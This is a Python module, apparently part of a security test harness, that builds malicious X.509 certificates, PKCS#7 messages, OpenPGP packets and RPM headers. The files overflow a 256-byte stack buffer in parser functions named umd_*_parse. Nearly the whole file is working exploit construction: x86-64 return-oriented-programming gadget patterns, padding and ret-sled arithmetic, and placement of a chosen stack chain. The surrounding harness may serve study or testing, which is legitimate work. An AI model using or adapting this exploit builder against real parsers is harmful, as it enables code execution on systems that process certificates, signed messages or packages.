# SPDX-License-Identifier: GPL-2.0-only
"""Files that take over a parser whose bug is known: a part too long for its buffer.

The part overwrites the address to which a function returns (`umd_text_length` of
overlay/tools/umd/kit/overflow.h). Pages of data are not executable. So the overflow writes
the addresses of existing code (return-oriented programming).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from types import MappingProxyType
from typing import TYPE_CHECKING

from harness.guests.der import der
from harness.guests.signed_messages import unsigned
from harness.guests.vendor import USER_ID, header, packet
from harness.model.handlers import PGP, PKCS7, RPM, X509

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

POP_RDI = (bytes.fromhex("5fc3"),)
POP_RSI = bytes.fromhex("5ec3"), bytes.fromhex("5e415fc3")
POP_RSP = tuple(map(bytes.fromhex, ("5cc3", "5c415dc3", "5c415d415ec3", "5c415d415e415fc3")))
"""x86-64 code that takes a register from the stack, and returns. The second code also takes one
word more, the third two, the fourth three."""
RET = (b"\xc3",)
"""x86-64 code that returns."""
SYSCALL = (bytes.fromhex("0f05483d01f0ffff"),)
"""x86-64 code of a system call, and of the look at its result in a C library that then returns."""

_LONGEST, _LONGEST_PACKAGE = 2044, 128 << 10
_REPLY, _REPLY_ABOUT_PACKAGE = 320, 20 + 8 * 4096
"""The bytes that a handler takes, and those of a reply (overlay/kernel/umd_witness/message.h)."""
_ROOM = 256
"""Bytes of the buffer."""
_REGISTERS = 64
"""Bytes from the buffer's end to the return address and beyond it: what a function saves."""
_NAME_HEADERS = 17
"""Bytes of a name of X.500 before its text."""

_DESCRIPTION = bytes.fromhex("060355040d")
_RSA = bytes.fromhex("300d06092a864886f70d0101010500")
_SHA256_WITH_RSA = bytes.fromhex("300d06092a864886f70d01010b0500")
_YEARS = b"200101000000Z", b"400101000000Z"
_TRUST = 12
"""The tag of an OpenPGP packet of which the parser reads nothing (RFC 4880)."""
_GIF, _ICON, _BIN = 1012, 1043, 7
"""Tags of entries of an RPM header (rpmtag.h of rpm), and their type."""


def words(values: Iterable[int]) -> bytes:
    """Return 64-bit words as they lie in memory."""
    return b"".join(struct.pack("<Q", value) for value in values)


@dataclass(frozen=True)
class Carrier:
    """Files of one format that exploit the bug of their parser."""

    parser: str
    """The function that parses them, in the program and in the kernel."""
    made: Callable[[bytes, bytes], bytes]
    """Returns a file with these bytes somewhere, and behind them the part that is copied."""
    before: int = 0
    """Bytes of that part before those of the attacker's choice."""
    longest: int = _LONGEST
    """The most bytes that the handler takes."""
    reply: int = _REPLY
    """Bytes of a reply. What the attacker says fills the first ones."""

    def overflow(self, ret: int, stack: Iterable[int], brought: bytes) -> bytes:
        """Return a file that makes the parser return to the first address of `stack`.

        `ret` is the address of code that only returns. A row of it covers the places where the
        return address may be. What is `brought`, at least 256 bytes, lies elsewhere in the file.
        """
        pad = -self.before % 8
        row = (_ROOM + _REGISTERS - self.before - pad) // 8
        made = self.made(brought, bytes(pad) + words([ret] * row) + words(stack))
        if len(made) > self.longest:
            raise ValueError(f"the handler takes no file of {len(made)} bytes")
        return made

    def place_of_brought(self) -> int:
        """Return the offset of what is brought."""
        text = bytes([0xFF]) * 256
        return self.made(text, bytes(256)).index(text)


def _name(text: bytes) -> bytes:
    """Return the relative names of a name of X.500, which is a description."""
    return der(0x31, der(0x30, _DESCRIPTION + der(0x0C, text)))


def _certificate(brought: bytes, copied: bytes) -> bytes:
    """Return a certificate. What is brought is the issuer's name, what is copied the subject."""
    times = der(0x30, b"".join(der(0x17, time) for time in _YEARS))
    key = der(0x30, _RSA + der(0x03, bytes(17)))
    issuer, subject = (der(0x30, _name(text)) for text in (brought, copied))
    parts = (der(0x02, b"\1"), _SHA256_WITH_RSA, issuer, times, subject, key)
    signed = der(0x30, b"".join(parts))
    return der(0x30, signed + _SHA256_WITH_RSA + der(0x03, bytes(17)))


def _message(brought: bytes, copied: bytes) -> bytes:
    """Return a PKCS#7 message. What is brought is the content, what is copied the signer's name."""
    return unsigned(brought, der(0x30, _name(copied)), b"\1", b"", bytes(16))


def _packets(brought: bytes, copied: bytes) -> bytes:
    """Return OpenPGP packets. What is copied is the user ID."""
    return packet(_TRUST, brought) + packet(USER_ID, copied)


def _header(brought: bytes, copied: bytes) -> bytes:
    """Return the header of an RPM package. What is copied is its icon."""
    return header((_GIF, _BIN, len(brought), brought), (_ICON, _BIN, len(copied), copied))


CARRIERS = MappingProxyType(
    {
        X509.name: Carrier("umd_x509_parse", _certificate, _NAME_HEADERS),
        PKCS7.name: Carrier("umd_pkcs7_parse", _message, _NAME_HEADERS),
        PGP.name: Carrier("umd_pgp_parse", _packets),
        RPM.name: Carrier(
            "umd_rpm_parse", _header, longest=_LONGEST_PACKAGE, reply=_REPLY_ABOUT_PACKAGE
        ),
    }
)
"""By the name of the handler that parses them."""
